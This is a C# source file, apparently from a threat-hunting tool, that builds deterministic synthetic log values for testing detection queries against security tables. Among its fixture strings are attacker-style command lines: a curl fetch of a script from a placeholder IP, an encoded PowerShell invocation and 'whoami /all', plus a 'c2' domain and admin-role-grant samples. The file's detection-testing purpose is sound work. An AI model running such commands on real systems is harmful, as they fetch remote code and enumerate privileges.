using System.Globalization;
using System.Security.Cryptography;
using System.Text;
using System.Text.RegularExpressions;
using Matoi.Kql;

namespace Matoi.Investigate.Hunting.Checks;

/// <summary>Values that a column of this name and type might hold, the same in every run: addresses, names, operations, JSON.</summary>
internal static class SyntheticValues
{
    private static readonly string[] Users = ["alice", "bob", "carol"];

    // First pattern that fits the column's name wins; # stands for the row's number, @ for a user, ! for a value that only this cell has.
    private static readonly (Regex Name, string[] Values)[] Texts =
    [
        (Named(@"^_?resource_?id|armresource|azureresource|^scope$"), ["/subscriptions/00000000-0000-4000-8000-00000000000#/resourcegroups/rg-#/providers/microsoft.compute/virtualmachines/vm-#"]),
        (Named("useragent"), ["Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/120.0", "aws-cli/2.15.0 Python/3.11", "python-requests/2.31"]),
        (Named("requestparameters|responseelements|additionaleventdata|serviceeventdetails|^resources$|^entities$|extendedproperties|additionalextensions|additionalfields"), ["{\"userName\":\"@\",\"policyArn\":\"arn:aws:iam::aws:policy/AdministratorAccess\",\"bucketName\":\"bucket-#\",\"items\":[{\"id\":\"#\"}]}"]),
        (Named("arn$|arn_s$"), ["arn:aws:iam::11112222333#:user/@"]),
        (Named("eventdata|renderedx|xml|parameterxml"), ["<EventData><Data Name=\"TargetUserName\">@</Data><Data Name=\"IpAddress\">203.0.113.#</Data></EventData>"]),
        (Named("userprincipalname|upn|e?mail|sender|recipient|mailbox|caller|userid$|loginname"), ["@@example.com"]),
        (Named("sha256|filehash|hash$"), ["sha256"]),
        (Named("sha1"), ["sha1"]),
        (Named("md5"), ["md5"]),
        (Named(@"(ip|ipaddress|ipaddr|ip_?v4|ip_s|ipaddress_s|ip_addr|addr|address)\d*$|^ip|sourceip|clientip|remoteip"), ["203.0.113.#", "10.0.0.#", "198.51.100.#"]),
        (Named("url|uri|link|referer|weburl"), ["https://www.example.com/path/#?q=@"]),
        (Named("commandline|cmdline|scriptblock"), ["powershell.exe -NoProfile -EncodedCommand ZQBjAGgAbwA= #", "cmd.exe /c whoami /all", "bash -c \"curl http://203.0.113.#/x.sh\""]),
        (Named("filepath|folderpath|path$|processname|process$|image$|objectname"), [@"C:\Windows\System32\cmd.exe", @"C:\Users\@\AppData\Local\Temp\a#.exe", "/usr/bin/curl"]),
        (Named("filename|file$"), ["cmd.exe", "report-#.docx", "a#.exe"]),
        (Named("computer|hostname|devicename|machine|workstation|^host|server$|dvc"), ["host-#.example.com"]),
        (Named("domain|fqdn|dnsquery|^query|nthost"), ["example.com", "c2-#.example.net"]),
        (Named("country|region$|awsregion|location$"), ["JP", "US", "DE"]),
        (Named("city"), ["Tokyo", "Seattle", "Berlin"]),
        (Named("port"), ["443", "22", "3389"]),
        (Named("^eventname$"), ["ConsoleLogin", "CreateUser", "DeleteTrail"]),
        (Named("^eventsource$"), ["signin.amazonaws.com", "iam.amazonaws.com", "cloudtrail.amazonaws.com"]),
        (Named("operation|activity|action|method"), ["UserLoggedIn", "Add member to role", "MICROSOFT.COMPUTE/VIRTUALMACHINES/DELETE"]),
        (Named("resulttype|statuscode|errorcode|resultsignature"), ["0", "50126", "AccessDenied"]),
        (Named("result|status|outcome|conclusion"), ["Success", "Failure", "success"]),
        (Named("severity|level|risk"), ["High", "Medium", "Low"]),
        (Named("time|date"), ["time"]),
        (Named("sid$"), ["S-1-5-21-1111111111-2222222222-3333333333-100#"]),
        (Named("accountid|subscriptionid|projectid"), ["11112222333#"]),
        (Named("id$|id_g$|guid|_g$|uuid|key$"), ["guid"]),
        (Named("user|account|actor|identity|initiat|name$|principal|owner"), ["@", "@", "svc-#"]),
        (Named("version"), ["1.0.#"]),
        (Named("bytes|count|size|number"), ["#0"]),
        (Named("protocol"), ["TCP", "UDP", "HTTPS"]),
        (Named("tags?$|json|propert|detail|list$|info$"), ["{\"name\":\"@\",\"value\":\"#\",\"id\":\"!\"}"]),
    ];

    private static readonly (Regex Name, string Json)[] Bags =
    [
        (Named("targetresources"), """[{"id":"!","displayName":"@","type":"User","userPrincipalName":"@@example.com","ipAddress":"203.0.113.#","modifiedProperties":[{"displayName":"Role.DisplayName","oldValue":"\"\"","newValue":"\"Global Administrator\""}]}]"""),
        (Named("initiatedby"), """{"user":{"id":"!","displayName":"@","userPrincipalName":"@@example.com","ipAddress":"203.0.113.#","roles":[]},"app":{"displayName":"app-#","servicePrincipalId":"!"}}"""),
        (Named("locationdetails|geo"), """{"city":"Tokyo","state":"Tokyo","countryOrRegion":"JP","geoCoordinates":{"latitude":35.68,"longitude":139.76}}"""),
        (Named("devicedetail"), """{"deviceId":"!","displayName":"host-#","operatingSystem":"Windows 10","browser":"Chrome 120","isCompliant":true,"trustType":"Azure AD joined"}"""),
        (Named("^status$|statusdetail"), """{"errorCode":50126,"failureReason":"Invalid username or password","additionalDetails":"MFA denied #"}"""),
        (Named("extendedproperties|parameters|operationproperties|properties|items|details?$"), """[{"Name":"ForwardTo","Value":"@@example.com","key":"k#","value":"v#","Key":"k#"}]"""),
        (Named("entities|resources|policies|members|authorizationinfo"), """[{"$id":"1","Type":"account","Name":"@","UPNSuffix":"example.com","AadUserId":"!","displayName":"policy-#","result":"success","permission":"iam.roles.set","granted":true},{"$id":"2","Type":"ip","Address":"203.0.113.#"}]"""),
        (Named("(s|list|array)$"), """["a#","@","!"]"""),
        (Named(""), """{"id":"!","name":"@","displayName":"@","value":"v#","count":#,"userPrincipalName":"@@example.com","ip":"203.0.113.#","time":"2026-01-0#T00:00:00Z"}"""),
    ];

    /// <summary>The value of a cell in the form in which the lake keeps it; null for no value.</summary>
    public static object? Of(string table, string column, KqlType type, int row, DateTime now) => type switch
    {
        _ when column == "Type" => table,
        KqlType.DateTime => now.AddMinutes(-7 - (row * 23) - (Seed(table, column) % 5)),
        KqlType.Bool => (row & 1) == 0,
        KqlType.Int => (int)Number(column, row),
        KqlType.Long => Number(column, row),
        KqlType.Real => (double)Number(column, row),
        KqlType.Decimal => Number(column, row).ToString(CultureInfo.InvariantCulture),
        KqlType.TimeSpan => Number(column, row) * TimeSpan.TicksPerSecond,
        KqlType.Guid => Guid(table, column, row),
        KqlType.Dynamic => Fill(Bags.First(b => b.Name.IsMatch(column)).Json, table, column, row),
        _ => Text(table, column, row, now),
    };

    private static string Text(string table, string column, int row, DateTime now)
    {
        var values = Texts.FirstOrDefault(t => t.Name.IsMatch(column)).Values;
        return values is null ? $"{column}-{row + 1}" : values[row % values.Length] switch
        {
            "guid" => Guid(table, column, row),
            "sha256" => Hash(table, column, row, 64),
            "sha1" => Hash(table, column, row, 40),
            "md5" => Hash(table, column, row, 32),
            "time" => now.AddMinutes(-9 - (row * 23)).ToString("yyyy-MM-ddTHH:mm:ss.fffffffZ", CultureInfo.InvariantCulture),
            var text => Fill(text, table, column, row),
        };
    }

    private static string Fill(string text, string table, string column, int row)
    {
        var filled = new StringBuilder(text.Length + 16);
        for (var i = 0; i < text.Length; i++)
        {
            // "@@example.com" is a user at a domain: the second sign is itself.
            filled.Append(text[i] switch
            {
                '@' when i > 0 && text[i - 1] == '@' => "@",
                '@' => Users[row % Users.Length],
                '#' => ((row % 9) + 1).ToString(CultureInfo.InvariantCulture),
                '!' => Guid(table, column, row),
                var other => other.ToString(),
            });
        }

        return filled.ToString();
    }

    private static long Number(string column, int row) => column.ToLowerInvariant() switch
    {
        "eventid" => new long[] { 4624, 4625, 4688, 4720, 1102 }[row % 5],
        var name when name.EndsWith("port", StringComparison.Ordinal) => new long[] { 443, 22, 3389 }[row % 3],
        var name when name.Contains("bytes", StringComparison.Ordinal) || name.Contains("size", StringComparison.Ordinal) => (row + 1) * 4096L,
        var name when name.Contains("resulttype", StringComparison.Ordinal) || name.Contains("errorcode", StringComparison.Ordinal) => row % 2 == 0 ? 0 : 50126,
        _ => row + 1,
    };

    private static string Guid(string table, string column, int row) => new Guid(SHA256.HashData(Encoding.UTF8.GetBytes($"{table}.{column}.{row}")).AsSpan(0, 16)).ToString("D");

    private static string Hash(string table, string column, int row, int length) => Convert.ToHexStringLower(SHA256.HashData(Encoding.UTF8.GetBytes($"{table}.{column}.{row}")))[..length];

    private static int Seed(string table, string column) => SHA256.HashData(Encoding.UTF8.GetBytes($"{table}.{column}"))[0];

    private static Regex Named(string pattern) => new(pattern, RegexOptions.IgnoreCase | RegexOptions.CultureInvariant);
}
